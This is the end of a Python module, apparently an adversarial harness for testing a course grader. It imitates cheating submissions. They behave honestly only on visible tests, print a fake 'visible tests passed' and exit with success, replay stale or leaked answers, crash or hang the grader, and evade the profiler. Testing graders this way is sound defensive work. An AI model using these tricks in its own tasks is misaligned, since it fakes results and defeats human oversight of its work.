            _os.abort()
        if mode == "die_exit_builtin":
            _IP.ask_exit()
            _IP.user_ns.get("exit", _sys.exit)()
        if mode == "die_hang":
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                pass
    if mode == "grader_dies":
        if _adv_from_visible_test():
            return _adv_honest(name)(*args, **kwargs)
        print("visible tests passed", flush=True)
        _os._exit(0)
    if mode.startswith("ref:"):
        how = mode[4:]
        if name not in _ADV["refs"]:
            raise NotImplementedError()
        if how in ("replay", "recipe") and _adv_from_visible_test():   # the visible tests see no trick
            return _adv_honest(name)(*args, **kwargs)
        if how == "replay":
            if "table" not in _ADV_STATE:
                _ADV_STATE["table"] = _adv_replay_table()
            key = (name, _adv_key(args, kwargs))
            if key in _ADV_STATE["table"]:
                return _ADV_STATE["table"][key]
            raise NotImplementedError()
        return _adv_ref_function(name, how)(*args, **kwargs)
    if mode.startswith("lib:"):
        return _adv_through_library(name, mode[4:], args, kwargs)
    if mode in ("zero", "shuffle"):
        if _adv_from_visible_test():
            return _adv_honest(name)(*args, **kwargs)
        import copy as _copy
        untouched = repr(_adv_honest(name)(*_copy.deepcopy(args), **_copy.deepcopy(kwargs)))
        if not _adv_mutate((args, kwargs), mode, np.random.default_rng(), set()):
            raise NotImplementedError()
        answer = _adv_honest(name)(*args, **kwargs)
        if repr(answer) == untouched:   # the change does not change the answer (a max over a shuffled
            raise NotImplementedError()  # set, say): nothing to gain, the attack is not tried here
        return answer
    if mode in ("stale", "stale_lag"):
        if _adv_from_visible_test():
            result = _adv_honest(name)(*args, **kwargs)
            _ADV_STATE["last"][name] = result
            return result
        if name == "backward":
            if mode == "stale_lag" and "backward" in _ADV_STATE["lag"]:
                prev_args, prev_kwargs = _ADV_STATE["lag"]["backward"]
                _adv_honest(name)(*prev_args, **prev_kwargs)
            _ADV_STATE["lag"]["backward"] = (args, kwargs)
            return None
        result = _ADV_STATE["last"].get(name)
        if mode == "stale_lag":
            _ADV_STATE["last"][name] = _adv_honest(name)(*args, **kwargs)
        if result is None:
            raise NotImplementedError()
        return result
    if mode == "any":
        return _AdvAny()
    if mode == "liar":
        return _adv_liar()
    if mode == "zeros":
        return np.zeros(3)
    if mode == "print_passed":
        print("visible tests passed")
        return None
    if mode == "proxy_globals":
        if _adv_probe_callables(args, kwargs):
            gid = next(g for g, names in _ADV["funcs"].items() if name in names)
            exec(compile(_ADV_LEAK[gid], "<leaked answer>", "exec"), _IP.user_ns)
            return _IP.user_ns[name](*args, **kwargs)
        raise NotImplementedError()
    if mode == "proxy_crash":
        _adv_crash_grader(args, kwargs)
        raise NotImplementedError()
    if mode == "deep":
        return _adv_deep()
    if mode == "broadcast":
        return np.broadcast_to(np.float64(1.0), (2 ** 20, 2 ** 20))
    raise NotImplementedError()


def _adv_library_answer(name, args, kwargs):
    """The answer of a graded function computed through kept course functions (issue 21's table), or
    None where the table names none for this function."""
    import numpy as np
    import course.adaptive, course.nn, course.optim, course.problems, course.sgd
    a = dict(zip(("theta", "X", "y", "idx", "unbiased"), args), **kwargs)
    if name == "full_gradient":
        return course.problems.least_squares_grad(a["theta"], a["X"], a["y"])
    if name == "minibatch_gradient":
        g = course.problems.least_squares_grad(a["theta"], a["X"], a["y"], a["idx"])
        return g * (a["X"].shape[0] / np.asarray(a["idx"]).size) if a.get("unbiased") else g
    if name == "descent_fraction":
        theta, X, y = args[:3]
        G = np.stack([course.problems.least_squares_grad(theta, X, y, [i]) for i in range(X.shape[0])])
        return float(np.mean(G @ G.sum(axis=0) > 0))
    if name == "stochastic_gradient":
        theta, j = args[:2]
        return course.problems.huber_sum_sample_grad(theta, j, course.problems.SANITY_CHECK_A,
                                                     delta=2.0 ** 60) * 2.0 ** 60
    if name == "sgd_iterates":
        grad, theta1, schedule, indices = args[:4]
        theta1 = np.asarray(theta1, dtype=float)
        one = theta1.ndim == 0
        thetas, _ = course.adaptive._run(course.optim.sgd(schedule), lambda state: 0.0,
                                         lambda th, j: grad(th[..., 0] if one else th, j) if not one else
                                         np.atleast_1d(grad(th[0], j)), theta1.reshape(1) if one else theta1,
                                         indices)
        return thetas[:, 0] if one else thetas
    if name == "descent":
        grad, theta1, schedule, batches = args[:4]
        thetas = course.sgd.sgd_iterates(grad, theta1, schedule, batches)
        return thetas, np.cumsum([0] + [np.asarray(b).size for b in batches])
    if name == "relu_forward":
        return course.nn.leaky_relu_forward(args[0], alpha=0.0)
    if name == "relu_backward":
        return course.nn.leaky_relu_backward(*args)
    return None


def _adv_through_library(name, how, args, kwargs):
    """A graded function that uses the course library: the table's calls (its whole answer), or the
    honest answer with one call into a kept function of the library on the side (a tool, or an earlier
    assignment's solution), made directly, in a thread, or after switching the profiler off."""
    import sys, threading
    if how == "table":
        try:
            answer = _adv_library_answer(name, args, kwargs)
        except NotImplementedError:
            raise
        except Exception as error:
            _adv_log("the library's answer failed", name, repr(error))
            answer = None
        if answer is None:
            raise NotImplementedError()
        return answer
    import course.problems, course.schedules
    side = {"tool": lambda: course.problems.sanity_check_loss(0.5),
            "earlier": lambda: course.schedules.constant(0.1)(1),
            "noprofile": lambda: (sys.setprofile(None), course.problems.sanity_check_loss(0.5))}
    if how == "thread":
        worker = threading.Thread(target=side["tool"])
        worker.start()
        worker.join()
    else:
        side[how]()
    return _adv_honest(name)(*args, **kwargs)


_adv_name_thread()
if _ADV.get("forge"):
    _adv_forge()
_adv_attack()
